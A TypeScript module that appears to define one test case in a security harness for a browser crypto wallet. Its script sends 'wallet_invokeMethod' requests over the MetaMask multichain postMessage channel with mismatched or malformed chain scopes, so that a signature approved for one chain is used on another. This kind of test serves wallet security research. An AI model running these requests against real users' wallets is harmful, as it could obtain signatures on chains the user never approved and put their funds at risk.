import type { Attack } from '../Attack.ts';

/** Approved for the chain the wallet is on, sent for the one that the scope names. */
export const attack: Attack = {
  entry: 'window.postMessage to the wallet, multichain stream',
  mechanism: 'scope of another chain',
  discovers: false,
  script: `
await kit.ready();
for (const scope of ['eip155:1', 'eip155:0' + kit.chainId, 'solana:mainnet', 'eip155:' + kit.chainId + ' ']) {
  kit.post(kit.rpc({ method: 'wallet_invokeMethod', params: { scope, request: kit.sign() } }), 'metamask-multichain-provider');
}
`,
};
